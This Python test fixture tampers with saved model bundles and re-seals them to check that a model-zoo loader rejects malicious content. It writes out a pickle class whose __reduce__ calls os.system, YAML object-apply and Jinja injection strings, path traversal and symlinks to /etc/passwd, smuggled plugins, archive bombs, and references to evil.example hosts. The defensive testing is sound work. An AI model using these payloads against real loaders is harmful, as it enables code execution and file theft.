"""Attacks on bundles: each changes a copy of an honest bundle, and seals it again as someone would who knows how.

``ATTACKS`` has them by the honest bundle that they change; each takes the copy's folder and the path of a sentinel, a
file that only code of the attacker would make. ``honest`` saves the bundles that are attacked.
"""

import base64
import gzip
import io
import json
import os
import pickle
import shutil
import tarfile
import zipfile

import safetensors.torch
import torch

import zoo
from zoo.bundle.hashing import digest_of
from zoo.bundle.manifest import _checksum
from zoo.bundle.plain_json import canonical

MAIN = "backbones/main"


class Bomb:
    """What makes a file when it is unpickled."""

    def __init__(self, sentinel):
        self.sentinel = sentinel

    def __reduce__(self):
        return os.system, (f"touch {self.sentinel}",)


def sealed(bundle, change=lambda data: None):
    """Edit a manifest, and seal it again with sizes and digests of the files as they are now."""
    data = json.loads((bundle / "zoo.json").read_bytes())
    data.pop("checksum")
    change(data)
    for name, entry in data["files"].items():
        file = bundle / name
        if file.is_file() and not file.is_symlink() and isinstance(entry, dict):
            content = file.read_bytes()
            entry.update(size=len(content), blake3=digest_of(content))
    (bundle / "zoo.json").write_bytes(canonical({**data, "checksum": _checksum(data)}))


def put(bundle, name, content, *, listed=True):
    """Add or replace a file of a bundle."""
    file = bundle / name
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(content if isinstance(content, bytes) else content.encode())
    entry = {"size": 0, "blake3": "0" * 64}
    sealed(bundle, (lambda data: data["files"].update({name: entry})) if listed else lambda data: None)


def edit_json(bundle, name, **changes):
    """Set keys of a JSON file in a bundle."""
    file = bundle / name
    data = json.loads(file.read_bytes()) if file.exists() else {}
    put(bundle, name, json.dumps({**data, **changes}))


def backbone(data):
    return data["model"]["streams"]["main"]["backbone"]


def constructed(**changes):
    """Give an attack that adds keys to what the provider builds from."""
    return lambda bundle, _: sealed(bundle, lambda data: backbone(data)["construction"].update(changes))


def argument(**changes):
    return lambda bundle, _: sealed(bundle, lambda data: backbone(data)["construction"]["arguments"].update(changes))


def configured(**changes):
    """Give an attack that adds keys to the config that transformers gets."""
    return lambda bundle, _: sealed(bundle, lambda data: backbone(data)["construction"]["config"].update(changes))


def retyped(model_type, pooling="cls", **config):
    def attack(bundle, _):
        def change(data):
            construction = backbone(data)["construction"]
            construction.update(
                model_type=model_type, part=None, pooling=pooling, config={"model_type": model_type, **config}
            )

        sealed(bundle, change)

    return attack


def referred(reference):
    return lambda bundle, _: sealed(bundle, lambda data: backbone(data).update(reference=reference))


def provided(provider):
    def change(data):
        backbone(data).update(provider=provider)
        next(part for part in data["components"] if part["role"] == "backbone").update(type=provider)

    return lambda bundle, _: sealed(bundle, change)


def headed(kind):
    def change(data):
        data["model"]["heads"][0].update(type=kind)
        next(part for part in data["components"] if part["role"] == "head").update(type=kind)

    return lambda bundle, _: sealed(bundle, change)


def required(*names):
    entries = [{"name": name, "distribution": name, "version": "1"} for name in names]
    return lambda bundle, _: sealed(bundle, lambda data: data.update(requires=data["requires"] + entries))


def code(sentinel):
    return f"open({str(sentinel)!r}, 'w').close()\n"


def files(listed, *names):
    """Give an attack that adds files of code."""

    def attack(bundle, sentinel):
        for name in names:
            put(bundle, name, code(sentinel), listed=listed)

    return attack


def native(name, **changes):
    return lambda bundle, _: edit_json(bundle, f"{MAIN}/{name}", **changes)


def native_of(folder, **changes):
    """Give an attack that sets keys of an adapter's config."""
    return lambda bundle, _: edit_json(bundle, f"{folder}/adapter_config.json", **changes)


def unsaid(**changes):
    """Give an attack by the image processor's file, which is read where the spec holds no recipe."""

    def attack(bundle, sentinel):
        native("preprocessor_config.json", **changes)(bundle, sentinel)
        sealed(bundle, lambda data: backbone(data).update(preprocessing=None))

    return attack


def archive(kind, name):
    """Give an attack that puts an archive in a file's place, with members that would leave the folder."""

    def attack(bundle, sentinel):
        buffer = io.BytesIO()
        if kind == "zip":
            with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as packed:
                packed.writestr("../../outside.txt", "x")
                packed.writestr("archive/data.pkl", pickle.dumps(Bomb(sentinel)))
                packed.writestr("bomb", b"\0" * 50_000_000)
        elif kind == "tar":
            with tarfile.open(fileobj=buffer, mode="w:gz") as packed:
                packed.addfile(tarfile.TarInfo("../../outside.txt"), io.BytesIO())
        elif kind == "gzip":
            buffer.write(gzip.compress(b"\0" * 50_000_000))
        elif kind == "torch":
            torch.save({"w": Bomb(sentinel)}, buffer)
        else:
            buffer.write(pickle.dumps(Bomb(sentinel)))
        put(bundle, name, buffer.getvalue())

    return attack


def link(name, target):
    def attack(bundle, _):
        (bundle / name).unlink() if not (bundle / name).is_dir() else shutil.rmtree(bundle / name)
        (bundle / name).symlink_to(target)

    return attack


def index(listed):
    def attack(bundle, _):
        (bundle.parent / "outside.safetensors").write_bytes((bundle / f"{MAIN}/model.safetensors").read_bytes())
        names = {"a": "../../../outside.safetensors", "b": "/etc/passwd"}
        put(bundle, f"{MAIN}/model.safetensors.index.json", json.dumps({"weight_map": names}), listed=listed)
        if listed:
            (bundle / f"{MAIN}/model.safetensors").unlink()
            sealed(bundle, lambda data: data["files"].pop(f"{MAIN}/model.safetensors"))

    return attack


def smuggled_plugin(bundle, sentinel):
    """Bring a plugin along, as an installed one looks, and ask for it."""
    put(bundle, "evil.py", code(sentinel), listed=False)
    put(bundle, "evil-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
    put(bundle, "evil-1.0.dist-info/entry_points.txt", "[zoo]\nevil = evil\n")
    required("evil")(bundle, sentinel)
    provided("evil")(bundle, sentinel)


def giant_header(bundle, _):
    header = b'{"a":{"dtype":"F32","shape":[1000000000000],"data_offsets":[0,4000000000000]}}'
    put(bundle, f"{MAIN}/model.safetensors", len(header).to_bytes(8, "little") + header)


def member(path):
    """Give an attack on an ensemble: a member is said to be elsewhere."""

    def change(data):
        entry = data["members"][0]
        entry["path"] = path
        data["files"] = {k: v for k, v in data["files"].items() if not k.startswith(f"members/{entry['name']}/")}

    return lambda bundle, _: sealed(bundle, change)


def based(**changes):
    """Give an attack on a delta: what it says of its base is another."""
    return lambda bundle, _: sealed(bundle, lambda data: data["bases"]["main"].update(changes))


def unfound(**changes):
    """Give an attack on a delta whose base is nowhere, so that whatever it says of where that is gets tried."""
    return based(state_digest="zsd1:blake3:" + "0" * 64, **changes)


def differing(tensors):
    """Give an attack on a delta: other tensors in place of those that differ from the base."""
    data = safetensors.torch.save(tensors)
    return lambda bundle, _: put(bundle, f"{MAIN}/delta.safetensors", data)


def signed(content):
    """Give an attack by the file of a signature, which no manifest lists."""
    return lambda bundle, _: (bundle / "model.sig").write_bytes(content)


def statement(*names):
    """Write a signature that nobody signed, over files of these names."""
    resources = [{"name": name, "digest": "0" * 64, "algorithm": "sha256"} for name in names]
    told = {"serialization": {"method": "files", "hash_type": "sha256"}, "resources": resources}
    payload = json.dumps({"_type": "x", "subject": [], "predicateType": "x", "predicate": told}).encode()
    envelope = {"payload": base64.b64encode(payload).decode(), "payloadType": "x", "signatures": [{"sig": "AAAA"}]}
    material = {"publicKey": {"hint": "https://evil.example/key"}, "tlogEntries": []}
    return json.dumps({"mediaType": "x", "verificationMaterial": material, "dsseEnvelope": envelope}).encode()


EVIL = {"auto_map": {"AutoModel": "evil--modeling.Evil"}, "_target_": "os.system", "model_file": "evil.py"}
ATTACKS = {
    "timm": {
        "pickle in place of the tensors": archive("pickle", f"{MAIN}/model.safetensors"),
        "torch.save in place of the tensors": archive("torch", f"{MAIN}/model.safetensors"),
        "pickle beside": lambda bundle, sentinel: put(
            bundle, f"{MAIN}/pytorch_model.bin", pickle.dumps(Bomb(sentinel)), listed=False
        ),
        "pickle listed": archive("pickle", f"{MAIN}/pytorch_model.bin"),
        "pickle listed as text": archive("pickle", f"{MAIN}/words.txt"),
        "code beside": files(False, "zoo.py", "torch.py", "sitecustomize.py", "conftest.py", f"{MAIN}/modeling.py"),
        "code listed": files(True, f"{MAIN}/modeling.py"),
        "a site's pth file": files(False, "evil.pth", "__init__.py", "__main__.py"),
        "a plugin in the folder": smuggled_plugin,
        "_target_ in construction": constructed(_target_="os.system", _args_=["touch x"]),
        "model_file in construction": constructed(model_file="evil.py"),
        "hub name for an architecture": constructed(architecture="hf-hub:evil/repo"),
        "folder for an architecture": constructed(architecture="local-dir:/etc"),
        "a hub tag": constructed(tag="evil/../x"),
        "pretrained": argument(pretrained=True),
        "checkpoint_path": argument(checkpoint_path="/etc/passwd"),
        "pretrained_cfg_overlay": argument(pretrained_cfg_overlay={"url": "http://evil.example/x.pth"}),
        "a class for an argument": argument(norm_layer="os:system"),
        "a huge size": argument(img_size=2**40),
        "huge channels": argument(in_chans=2**50),
        "a native config with code": native("config.json", **EVIL, pretrained_cfg={"url": "http://evil.example"}),
        "plugin names with dots": required("os.path", "..", "zoo_timm.provider"),
        "a plugin that is a path": required("../evil", "/tmp/evil.py"),
        "a module for a provider": provided("zoo_timm.provider:TimmProvider"),
        "a library for a provider": provided("subprocess"),
        "a function for a head": headed("os:system"),
        "a module for a head": headed("zoo_heads.classifier:Classifier"),
        "_target_ in a head": lambda bundle, _: sealed(
            bundle, lambda data: data["model"]["heads"][0]["config"].update(_target_="os.system")
        ),
        "a wrapped class": lambda bundle, sentinel: (
            constructed(code="os:system")(bundle, sentinel),
            provided("wrapped")(bundle, sentinel),
        ),
        "another package's weights": lambda bundle, sentinel: (
            referred("pypi:efficientnet_lite0")(bundle, sentinel),
            constructed(delegate="hf:evil/repo")(bundle, sentinel),
            provided("pypi")(bundle, sentinel),
        ),
        "YAML tags in the card": lambda bundle, sentinel: put(
            bundle, "README.md", f"---\nx: !!python/object/apply:os.system ['touch {sentinel}']\n---\n"
        ),
        "a card of gzip": archive("gzip", "README.md"),
        "zip in place of the tensors": archive("zip", f"{MAIN}/model.safetensors"),
        "tar in place of the tensors": archive("tar", "heads/pet/model.safetensors"),
        "an index of shards beside": index(listed=False),
        "an index of shards in place of the tensors": index(listed=True),
        "a link for a file": link(f"{MAIN}/model.safetensors", "/etc/passwd"),
        "a link for a folder": link(MAIN, "/etc"),
        "a link for the manifest": link("zoo.json", "/etc/passwd"),
        "an adapter beside": lambda bundle, _: put(
            bundle,
            "adapters/x/adapter_config.json",
            json.dumps({"base_model_name_or_path": "evil/repo", "auto_mapping": {"parent_library": "os"}, **EVIL}),
            listed=False,
        ),
        "an adapter listed": lambda bundle, _: put(
            bundle, "adapters/x/adapter_config.json", json.dumps({"base_model_name_or_path": "evil/repo", **EVIL})
        ),
        "a state of code": lambda bundle, _: put(
            bundle, "state/mine/state.json", json.dumps({"py/object": "os.system", **EVIL})
        ),
        "a state that names a method": lambda bundle, _: put(bundle, "state/evil.module:Class/state.json", "{}"),
        "a deep state": lambda bundle, _: put(bundle, "state/mine/state.json", "[" * 10_000 + "]" * 10_000),
        "a state's tensor that is not there": lambda bundle, _: put(
            bundle, "state/mine/state.json", '{"tensor":"../../etc/passwd"}'
        ),
        "pickle for a state": archive("pickle", "state/mine/state.safetensors"),
        "a giant tensor": giant_header,
        "a giant file": lambda bundle, _: sealed(
            bundle, lambda data: data["files"].update({"big.safetensors": {"size": 2**62, "blake3": "0" * 64}})
        ),
    },
    "vision": {
        "auto_map in the native config": native("config.json", **EVIL, trust_remote_code=True),
        "_attn_implementation_internal in the native config": native(
            "config.json", _attn_implementation_internal="evil/kernel", attn_implementation="evil/kernel"
        ),
        "auto_map": configured(auto_map=EVIL["auto_map"]),
        "trust_remote_code": configured(trust_remote_code=True),
        "_attn_implementation_internal": configured(_attn_implementation_internal="evil/kernel:attention"),
        "_attn_implementation": configured(_attn_implementation="evil/kernel"),
        "attn_implementation": configured(attn_implementation="evil/kernel"),
        "custom_pipelines": configured(custom_pipelines={"x": {"impl": "evil.Pipe"}}),
        "_name_or_path": configured(_name_or_path="evil/repo"),
        "quantization_config": configured(quantization_config={"quant_method": "evil"}),
        "_target_": configured(_target_="os.system"),
        "one deeper": configured(inner={"list": [{"auto_map": EVIL["auto_map"]}]}),
        "a huge width": configured(hidden_size=2**44, intermediate_size=2**44),
        "a model of timm on the hub": retyped("timm_wrapper", architecture="hf-hub:evil/repo"),
        "a model of timm in a folder": retyped("timm_wrapper", architecture="local-dir:/etc"),
        "a backbone of timm on the hub": retyped("timm_backbone", backbone="hf-hub:evil/repo"),
        "a backbone of a hub id inside": retyped(
            "dpt", backbone="evil/repo", use_pretrained_backbone=True, is_hybrid=False, backbone_config=None
        ),
        "a model type that is a path": retyped("../../evil"),
        "a hub id": referred("hf:evil/repo"),
        "a hub id and a revision": referred("hf:evil/repo@main"),
        "a folder outside": referred("hf:/etc"),
        "a processor that names code": native(
            "preprocessor_config.json", image_processor_type="evil.Processor", **EVIL, trust_remote_code=True
        ),
        "a processor that is a function": native("preprocessor_config.json", image_processor_type="pipeline"),
        "a processor without a recipe that names code": unsaid(
            image_processor_type="evil.Processor", **EVIL, trust_remote_code=True
        ),
        "a processor without a recipe that is a function": unsaid(image_processor_type="pipeline"),
        "a processor without a recipe that is another class": unsaid(image_processor_type="AutoConfig"),
        "a detector's default backbone": retyped("detr", "mean", use_timm_backbone=False, backbone="resnet50"),
        "no word of a detector's backbone": retyped("detr", "mean", use_timm_backbone=False),
        "a detector's backbone in a folder": retyped("detr", "mean", use_timm_backbone=True, backbone="local-dir:/etc"),
        "a backbone inside a backbone": retyped(
            "dpt", is_hybrid=True, backbone_config={"model_type": "timm_backbone", "backbone": "hf-hub:evil/repo"}
        ),
    },
    "text": {
        "a tokenizer that names code": native(
            "tokenizer_config.json", tokenizer_class="evil.Tokenizer", auto_map={"AutoTokenizer": ["evil.Tok", None]}
        ),
        "a tokenizer of another place": native(
            "tokenizer_config.json", name_or_path="evil/repo", vocab_file="/etc/passwd", tokenizer_file="/etc/passwd"
        ),
        "a chat template": native(
            "tokenizer_config.json", chat_template="{{ ''.__class__.__mro__[1].__subclasses__() }}"
        ),
        "a tokenizer that is no JSON": lambda bundle, sentinel: put(
            bundle, f"{MAIN}/tokenizer.json", pickle.dumps(Bomb(sentinel))
        ),
    },
    "delta": {
        "a base at a path of the root": unfound(path="/etc"),
        "a base that is a device": unfound(path="/dev/zero"),
        "a base up and down": unfound(path="a/../../../../../etc"),
        "a base on a share": unfound(path="\\\\evil\\share"),
        "a base at a URL": unfound(path="https://evil.example/base"),
        "a base on the hub": unfound(path="hf://evil/repo"),
        "a base that is the bundle itself": unfound(path="."),
        "a base that is another": unfound(path="../honest-vision"),
        "a base that is no bundle": unfound(path="../nothing"),
        "a base by a hub id": unfound(label="hf:evil/repo"),
        "a base by a URL": unfound(label="https://evil.example/base"),
        "a base by a folder": unfound(label="timm:local-dir:/etc"),
        "another digest of the base": based(state_digest="zsd1:blake3:../../../../etc"),
        "names left out that are paths": based(left_out=["../../etc/passwd", "__class__"]),
        "every name left out": based(left_out=["pos_embed", "cls_token", "norm.weight"]),
        "a pickle in place of what differs": archive("pickle", f"{MAIN}/delta.safetensors"),
        "a tensor of another shape": differing({"norm.bias": torch.zeros(2**10)}),
        "a tensor of another dtype": differing({"norm.bias": torch.zeros(64, dtype=torch.int64)}),
        "a tensor that is an attribute": differing({"__class__.x": torch.zeros(1), "norm.forward": torch.zeros(1)}),
        "a whole bundle in name": lambda bundle, _: sealed(bundle, lambda data: data.update(kind="full")),
        "a base of a stream that is not there": lambda bundle, _: sealed(
            bundle, lambda data: data["bases"].update(evil=data["bases"]["main"])
        ),
    },
    "signed": {
        "a signature of pickle": lambda bundle, sentinel: signed(pickle.dumps(Bomb(sentinel)))(bundle, sentinel),
        "a signature 50,000 deep": signed(b'{"dsseEnvelope":' * 50_000),
        "a signature of 40 MB": signed(b'"' + b"x" * 40_000_000 + b'"'),
        "a signature that is a link": lambda bundle, _: (bundle / "model.sig").symlink_to("/etc/passwd"),
        "a signature that is a folder": lambda bundle, _: (bundle / "model.sig").mkdir(),
        "a signature that is a pipe": lambda bundle, _: os.mkfifo(bundle / "model.sig"),
        "a signature by nobody": signed(statement("zoo.json", "config.json")),
        "a signature over what is outside": signed(statement("../../../../etc/passwd", "/etc/shadow")),
    },
    "ensemble": {
        "a member outside": member("/etc"),
        "a member that is a device": member("/dev/zero"),
        "a member up and down": member("members/../../../../../../../../etc"),
        "a member on a share": member("\\\\evil\\share"),
        "stacks of pickle": archive("pickle", "stacks.safetensors"),
    },
    "adapted": {
        "auto_mapping": native_of("adapters/lora", auto_mapping={"base_model_class": "x", "parent_library": "evil"}),
        "a base on the hub": native_of("adapters/lora", base_model_name_or_path="evil/repo", revision="main"),
        "another kind of adapter": native_of("adapters/lora", peft_type="XLORA", adapters={"x": "evil/repo"}),
        "corda": native_of("adapters/lora", init_lora_weights="corda", corda_config={"cache_file": "/etc/passwd"}),
        "megatron": native_of("adapters/lora", megatron_config={"x": 1}, megatron_core="evil"),
        "an endless expression": native_of("adapters/lora", target_modules="(a+)+$"),
        "keys of code": native_of("adapters/lora", **EVIL),
        "a huge rank": lambda bundle, _: sealed(bundle, lambda data: data["adapters"][0].update(rank=2**40)),
        "a path": lambda bundle, _: sealed(bundle, lambda data: data["adapters"][0].update(path="/etc")),
        "pickle for tensors": archive("pickle", "adapters/lora/adapter_model.safetensors"),
        "pickle beside": archive("pickle", "adapters/lora/adapter_model.bin"),
    },
}


def honest(folder):
    """Save the bundles that are attacked; give them by name."""
    import tokenizers
    import transformers

    pet = zoo.head("classifier", name="pet", classes=["cat", "dog"])
    torch.manual_seed(0)
    vision = transformers.ViTConfig(
        hidden_size=16, num_hidden_layers=2, num_attention_heads=2, intermediate_size=32, image_size=32, patch_size=8
    )
    transformers.ViTModel(vision).save_pretrained(folder / "vit")
    transformers.ViTImageProcessor(size={"height": 32, "width": 32}).save_pretrained(folder / "vit")
    text = transformers.BertConfig(
        vocab_size=8, hidden_size=16, num_hidden_layers=1, num_attention_heads=2, intermediate_size=32
    )
    transformers.BertModel(text).save_pretrained(folder / "bert")
    words = {word: i for i, word in enumerate(["[PAD]", "[UNK]", "[CLS]", "[SEP]", "[MASK]", "a", "b", "c"])}
    made = tokenizers.Tokenizer(tokenizers.models.WordLevel(words, unk_token="[UNK]"))
    made.pre_tokenizer = tokenizers.pre_tokenizers.Whitespace()
    fast = transformers.PreTrainedTokenizerFast(tokenizer_object=made, unk_token="[UNK]", pad_token="[PAD]")
    fast.save_pretrained(folder / "bert")
    small = [zoo.build("timm:test_resnet", pet, weights=None, seed=seed) for seed in (1, 2)]
    adapted = zoo.build("timm:test_vit", pet, weights=None, seed=0)
    adapted.add_adapters(rank=2)
    return {
        "timm": zoo.build("timm:test_vit", pet, weights=None, seed=0),
        "vision": zoo.build(f"hf:{folder}/vit", pet),
        "text": zoo.build(f"hf:{folder}/bert", pet),
        "delta": zoo.build("timm:test_vit", pet, weights=None, seed=0),
        "signed": zoo.build("timm:test_vit", pet, weights=None, seed=0),
        "adapted": adapted,
        "ensemble": zoo.ensemble({"one": small[0], "two": small[1]}),
    }


def saved(models, home):
    """Save them as ``honest-NAME``; the delta differs from the first in a bias, and its base is in the store alone."""
    done = {}
    for name, model in models.items():
        options = {}
        if name == "delta":
            with torch.no_grad():
                model.backbones["main"].native.norm.bias += 1
            aside = models["timm"].save(home / "aside")
            options = {"kind": "delta", "base": aside}
        done[name] = model.save(home / f"honest-{name}", **options)
    shutil.rmtree(home / "aside")
    return done
